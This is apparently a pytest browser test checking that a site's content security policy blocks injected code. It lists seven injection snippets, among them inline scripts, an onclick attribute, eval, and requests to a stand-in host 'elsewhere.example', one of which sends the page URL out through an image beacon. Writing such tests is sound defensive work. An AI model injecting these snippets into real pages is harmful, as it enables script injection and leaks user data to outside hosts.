"""What somebody smuggles into a page neither runs nor reaches another host."""

import pytest

from tests.browser.running import until
from tests.browser.views import desk

ATTACKS = {
    "a script in the page": """() => {
        const script = document.createElement("script");
        script.textContent = "window.taken = true";
        document.body.append(script);
    }""",
    "an attribute that is a script": """() => {
        document.body.insertAdjacentHTML("beforeend", "<a id=smuggled onclick='taken = true'>x</a>");
        document.getElementById("smuggled").click();
    }""",
    "text as code": "() => setTimeout(() => (0, eval)('window.taken = true'))",
    "a script of another host": """() => {
        const script = document.createElement("script");
        script.src = "https://elsewhere.example/a.js";
        document.body.append(script);
    }""",
    "an image of another host": """() => {
        new Image().src = "https://elsewhere.example/?" + location.href;
    }""",
    "a request to another host": """() => {
        fetch("https://elsewhere.example/").catch(() => {});
    }""",
    "a form to another host": """() => {
        const form = document.createElement("form");
        form.action = "https://elsewhere.example/";
        document.body.append(form);
        form.submit();
    }""",
}
WATCH = """addEventListener("securitypolicyviolation", () => { window.refused = true; });"""


@desk
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_is_refused(page, address, attack):
    page.add_init_script(WATCH)
    page.goto(address, wait_until="load")
    page.evaluate(attack)
    until(page, "window.refused")
    assert page.evaluate("window.taken") is None
